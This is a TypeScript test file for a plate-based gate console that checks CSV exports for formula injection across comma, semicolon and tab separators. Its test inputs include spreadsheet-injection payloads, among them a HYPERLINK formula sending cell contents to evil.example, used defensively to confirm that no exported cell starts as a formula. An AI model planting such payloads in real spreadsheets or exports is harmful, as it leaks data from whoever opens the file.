/** Files for spreadsheets: no cell of a stranger's becomes a formula, whichever separator the reader's country has. */
import t from "tap";
import { csv } from "../../src/core/kernel/csv.ts";
import { readCsv, refusedCsv, toCsv } from "../../src/features/gate/console/rules-csv.ts";

/** What a spreadsheet of a country with semicolons, or one that also splits at tabs, takes for its cells. */
const cellsOf = (text: string, separator: string): string[] =>
  text.split("\r\n").flatMap((line) => {
    const cells: string[] = [];
    let cell = "";
    let isQuoted = false;
    for (const char of line)
      if (char === '"') isQuoted = !isQuoted;
      else if (char === separator && !isQuoted) {
        cells.push(cell);
        cell = "";
      } else cell += char;
    return [...cells, cell];
  });
const EVIL = ['x;=HYPERLINK("http://evil.example/?"&A1);', "x;=1+1;", "x\t=1+1\t", "=1+1", "@SUM(1)", "\t=1+1"];

for (const separator of [",", ";", "\t"])
  t.test(`separated by ${JSON.stringify(separator)}`, async (t) => {
    for (const cell of EVIL) {
      const table = readCsv(`plate,kind,label\r\nMH12AB1234,allow,"${cell.replaceAll('"', '""')}"\r\n`);
      const rule = { formatted: "MH 12", kind: "allow", label: cell, windows: [] } as never;
      for (const [what, text] of [
        ["lines that were refused", refusedCsv(table, new Map([[2, "no"]]), "en")],
        ["rules", toCsv([rule])],
        ["tables of the hub", csv([["at", cell]])],
      ] as const)
        t.same(
          cellsOf(text, separator).filter((one) => /^\s*[=+@-]/.test(one)),
          [],
          `${what}: ${cell}`,
        );
    }
  });
